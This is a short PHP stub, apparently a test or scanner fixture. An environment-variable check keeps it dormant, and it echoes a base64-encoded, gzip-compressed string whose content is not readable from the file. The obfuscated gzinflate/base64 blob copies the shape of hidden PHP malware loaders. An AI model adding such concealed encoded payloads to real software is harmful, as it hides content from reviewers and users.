<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
echo gzinflate(base64_decode('symwy0gsys1JLS5WKEmtKFHIT1NIVChITE/VUcjJz0tXSM3LL03PUCjJV0hKBZI5KXoKNqN66KYHAA=='));
